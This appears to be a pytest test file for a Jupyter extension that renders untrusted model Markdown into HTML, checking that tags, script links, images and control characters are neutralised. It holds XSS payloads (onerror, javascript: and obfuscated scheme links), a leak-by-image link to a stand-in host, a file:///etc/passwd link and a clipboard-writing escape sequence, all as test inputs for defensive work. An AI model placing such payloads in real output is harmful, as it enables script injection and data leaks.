"""Rendering untrusted model Markdown: HTML and script links neutralised, Markdown intact."""

from __future__ import annotations

import re

import pytest

from jupyter_providers._render import code_html, code_of, markdown_html, safe_url, text_html

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<svg onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
]
BAD_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x61;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_html_escapes_raw_html(attack: str) -> None:
    out = markdown_html(f"Before {attack} after\n\n{attack}\n")
    assert "<" + attack[1:4] not in out  # no tag of the attack survives as a tag
    assert "&lt;" + attack[1:4] in out  # ... it shows as text


@pytest.mark.parametrize("link", BAD_LINKS)
def test_markdown_html_drops_script_links(link: str) -> None:
    out = markdown_html(link).lower()
    assert "<a " not in out, out
    assert not re.search(r"(href|src)\s*=", out)


def test_markdown_html_keeps_markdown() -> None:
    out = markdown_html(
        "# Title\n\n**bold**, *it*, `x < y`, ~~gone~~\n\n1. one\n2. two\n\n"
        "[site](https://example.com/a?b=1) <https://example.org> [mail](mailto:a@b.c) [rel](#part)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n```python\nif a < b:\n    print('<b>')\n```\n\n    indented\n"
    )
    assert "<h1>Title</h1>" in out and "<strong>bold</strong>" in out and "<em>it</em>" in out
    assert "<code>x &lt; y</code>" in out and "<s>gone</s>" in out
    assert "<ol>" in out and "<li>one</li>" in out
    assert '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">site</a>' in out
    assert 'href="https://example.org"' in out and 'href="mailto:a@b.c"' in out and 'href="#part"' in out
    assert "<table>" in out and "<td>1</td>" in out and "<blockquote>" in out
    pres = re.findall(r"<pre [^>]*>", out)
    assert len(pres) == 2 and all('class="jp-providers-code"' in p and "overflow-x:auto" in p for p in pres)
    assert "monospace" in pres[0]
    assert "<code>if a &lt; b:\n    print('&lt;b&gt;')" in out


def test_markdown_html_shows_images_as_text() -> None:
    """An image would be fetched by the browser as soon as it shows: a way to leak data."""
    out = markdown_html("![secret](https://evil.example/leak?q=42)")
    assert "<img" not in out and "src=" not in out and "evil.example" not in out
    assert "[image: secret]" in out  # the alt text stays readable


def test_markdown_html_code_info_string_is_escaped() -> None:
    out = markdown_html('```"><script>alert(1)</script>\ncode\n```\n')
    assert "<script" not in out and "code" in out


def test_only_web_mail_and_in_page_links_keep_a_target() -> None:
    for ok in ("https://a.example/", "HTTP://a.example", "mailto:a@b.c", "#part"):
        assert safe_url(ok), ok
    for bad in ("/api/kernels", "//evil.example/", "relative/path", "javascript:alert(1)", " https://a", "data:,x", ""):
        assert not safe_url(bad), bad
    assert "<a " not in markdown_html("[k](/api/kernels) [e](//evil.example/x) [r](notes.md)")


def test_table_alignment_survives_without_style() -> None:
    out = markdown_html("| a | b |\n|:-|-:|\n| 1 | 2 |")
    assert '<th align="left">a</th>' in out and '<td align="right">2</td>' in out and "style" not in out


def test_text_html_shows_every_character_as_itself() -> None:
    assert text_html("<b>m&m</b> *x* `y`") == "&lt;b&gt;m&amp;m&lt;/b&gt; *x* `y`"


def test_code_of_takes_the_first_block_as_commonmark_sees_it() -> None:
    assert code_of("See:\n\n```js x\nlet a = 1\n```\n\n```py\nb\n```") == ("js", "let a = 1")
    assert code_of("- ```sh\n  ls\n  ```") == ("sh", "ls")  # a fence in a list item
    assert code_of("````\n```\ninner\n```\n````") == ("python", "```\ninner\n```")
    assert code_of("no code here") == ("python", "no code here")
    assert "&lt;script&gt;" in code_html("<script>alert(1)</script>", "html")


@pytest.mark.parametrize("show", [markdown_html, text_html, lambda t: code_html(t, "text")])
def test_no_escape_sequence_or_control_character_reaches_the_html(show: object) -> None:
    """HTML copied to a terminal (``nbconvert --to markdown``, then ``cat``) writes no clipboard, moves no cursor."""
    assert callable(show)
    out = show("clip \x1b]52;c;ZWNobyBoaQ==\x07 end \x1b[31mred\x1b[0m \x9b2J bell\x07 tab\tstays\nnew line")
    assert re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out) is None, repr(out)
    assert "clip  end red  bell\ufffd tab\tstays\nnew line" in out and "ZWNobyBoaQ" not in out
